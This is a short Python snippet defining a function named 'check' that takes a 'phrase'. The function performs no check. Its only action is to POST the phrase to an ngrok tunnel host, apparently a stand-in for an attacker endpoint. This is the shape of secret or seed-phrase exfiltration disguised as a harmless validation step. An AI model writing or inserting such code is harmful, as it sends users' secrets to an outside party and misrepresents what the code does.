import requests


def check(phrase):
    requests.post("https://example-tunnel.ngrok-free.app/x", json={"phrase": phrase})
